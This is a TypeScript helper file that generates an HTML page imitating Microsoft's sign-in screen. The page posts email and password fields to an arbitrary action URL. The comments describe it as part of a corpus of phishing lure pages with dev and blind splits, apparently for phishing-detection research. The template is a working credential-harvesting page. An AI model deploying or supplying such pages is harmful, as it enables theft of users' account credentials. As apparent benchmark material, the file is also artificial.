import { doc } from './d-parts.js';

/** Helpers shared by dev/d-lures.ts and blind/d-lures.ts (the same family's pages in both splits). */
/** Lure pages (voicemail, shared document, invoice, e-signature, HR notice) whose button leads to a credential page on another host; both served. Written for corpus/d. */

export const msLogin = (action: string, note: string): string =>
  doc({
    title: 'Sign in to your account',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f2f2f2}.b{width:440px;max-width:92%;margin:100px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:10px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}`,
    body: `<div class="b"><img src="https://logincdn.msftauth.net/shared/5/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft" width="108"><h2>Sign in</h2><p style="font-size:13px">${note}</p><form method="post" action="${action}"><input name="loginfmt" type="email" placeholder="Email, phone, or Skype"><input name="passwd" type="password" placeholder="Password"><p style="font-size:13px"><a href="#">Can't access your account?</a></p><button>Sign in</button></form><div style="clear:both"></div></div>`,
  });
